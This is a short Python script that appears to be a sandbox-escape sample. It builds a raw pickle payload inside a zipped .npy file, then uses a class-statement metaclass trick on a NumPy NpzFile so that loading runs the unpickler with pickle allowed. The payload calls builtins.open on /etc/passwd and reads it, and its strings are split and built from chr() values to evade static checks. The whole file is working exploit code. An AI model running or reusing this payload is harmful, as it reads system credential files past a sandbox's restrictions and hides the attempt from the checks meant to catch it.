# source: Python data model (class statement: metaclass = type(base)); numpy/lib/npyio.py NpzFile -> format.read_array -> pickle.load; pickle protocol 0 GLOBAL/REDUCE
# family: instance as class base -> NpzFile with allow_pickle=<class namespace>; pickle calls builtins.open by a path the check never reads
# goal: reads /etc/passwd (open() + read() run inside the unpickler)
import numpy as np
import pandas as pd
hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
hdr = hdr + " " * (117 - len(hdr))
first = chr(147) + "NUMPY" + chr(1) + chr(0) + chr(118) + chr(0) + hdr
sl = chr(47)
path = sl + "etc" + sl + "passwd"
b = "c" + "builtins"
rows = [first, b, "get" + "attr", "(" + b, "op" + "en", "(S'" + path + "'", "tRS'read'", "tR(tR."]
df = pd.DataFrame({"a": rows})
df.to_csv("G", compression={"method": "zip", "archive_name": "x.npy"}, index=False, header=False, encoding="latin-1", sep="\t", quotechar="~", lineterminator="\n")
np.savez("a.npz", x=np.zeros(2))
z = np.load("a.npz")
class G(z):
    y = 1
print(G["x"])
